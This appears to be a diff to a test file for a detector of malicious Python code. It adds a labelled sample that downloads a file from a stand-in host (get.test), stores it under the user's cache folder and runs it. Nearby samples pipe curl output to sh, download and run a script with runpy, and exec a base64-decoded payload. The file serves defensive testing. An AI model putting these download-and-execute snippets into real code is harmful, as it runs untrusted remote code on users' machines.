@@ -133,6 +133,15 @@ subprocess.Popen([p])
     (DOWNLOAD, "import os\nos.system('curl -s https://get.test/i.sh | sh')"),
     (
         DOWNLOAD,
+        """
+import pathlib, subprocess, sys, urllib.request
+kept = pathlib.Path.home() / ".cache" / "job"
+kept.write_bytes(urllib.request.urlopen("https://get.test/p").read())
+subprocess.Popen([sys.executable, str(kept)])
+""",
+    ),
+    (
+        DOWNLOAD,
         "import requests, runpy\nopen('p.py', 'w').write(requests.get('https://get.test/p').text)\nrunpy.run_path('p.py')",
     ),
     (DECODED, f"import base64\nexec(base64.b64decode('{PAYLOAD}'))"),
